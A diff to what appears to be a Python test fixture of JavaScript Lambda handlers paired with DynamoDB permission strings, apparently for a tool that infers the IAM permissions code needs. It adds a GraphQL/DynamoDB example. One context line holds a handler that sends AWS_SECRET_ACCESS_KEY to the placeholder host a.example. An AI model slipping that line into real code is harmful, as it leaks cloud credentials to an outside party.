@@ -305,4 +305,18 @@ PROGRAMS = (
         "*",
         "exports.handler = async () => fetch('https://a.example', { body: process.env.AWS_SECRET_ACCESS_KEY });",
     ),
+    Program(
+        "functions-deep-in-what-a-library-is-given",
+        "dynamodb:GetItem dynamodb:UpdateItem dynamodb:PutItem",
+        "dynamodb:PutItem",
+        "",
+        "const { graphql, GraphQLSchema, GraphQLObjectType } = require('graphql');\n"
+        "const AWS = require('aws-sdk');\nconst db = new AWS.DynamoDB.DocumentClient();\n"
+        "const promised = (f) => new Promise((resolve, reject) => f((e, r) => (e ? reject(e) : resolve(r))));\n"
+        f"const find = (id) => promised((callback) => db.get({{ {_TABLE}, Key: {{ id }} }}, callback)).then((r) => r.Item);\n"
+        "class Store { async save(item) { await db.update({ TableName: 't', Key: item }).promise(); } }\n"
+        "const schema = new GraphQLSchema({ query: new GraphQLObjectType({ fields: { one: {\n"
+        "  resolve: (parent, args) => find(args.id) } } }), stores: [new Store()] });\n"
+        "module.exports.handler = (event) => graphql({ schema, source: event.body });",
+    ),
 )
